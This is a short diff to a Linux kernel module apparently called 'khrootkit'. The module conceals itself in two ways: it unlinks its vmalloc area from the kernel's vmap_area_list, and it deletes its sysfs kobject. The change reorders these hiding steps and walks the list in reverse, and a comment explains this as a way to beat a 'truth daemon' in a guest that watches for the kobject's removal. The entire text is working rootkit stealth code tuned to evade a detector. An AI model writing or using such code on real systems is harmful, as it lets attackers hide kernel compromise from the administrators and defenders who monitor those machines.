@@ -203,7 +203,8 @@ static void kh_skip_area(void)
 
 	if (!head)
 		return;
-	list_for_each_entry(va, head, list) {
+	/* From the end: the module region's areas come first that way. */
+	list_for_each_entry_reverse(va, head, list) {
 		if (va->va_start <= base && base < va->va_end) {
 			WRITE_ONCE(va->list.next->prev, va->list.prev);
 			pr_info("skipped its vmalloc area 0x%lx-0x%lx in vmap_area_list's prev links\n",
@@ -214,11 +215,12 @@ static void kh_skip_area(void)
 	pr_info("found no vmalloc area of its own\n");
 }
 
+/* The area first: the guest's truth daemon waits for the kobject's end. */
 static void kh_vanish_fn(struct work_struct *work)
 {
+	kh_skip_area();
 	kobject_del(&THIS_MODULE->mkobj.kobj);
 	pr_info("removed its kobject: /sys/module/khrootkit is gone\n");
-	kh_skip_area();
 }
 
 static DECLARE_WORK(kh_vanish_work, kh_vanish_fn);
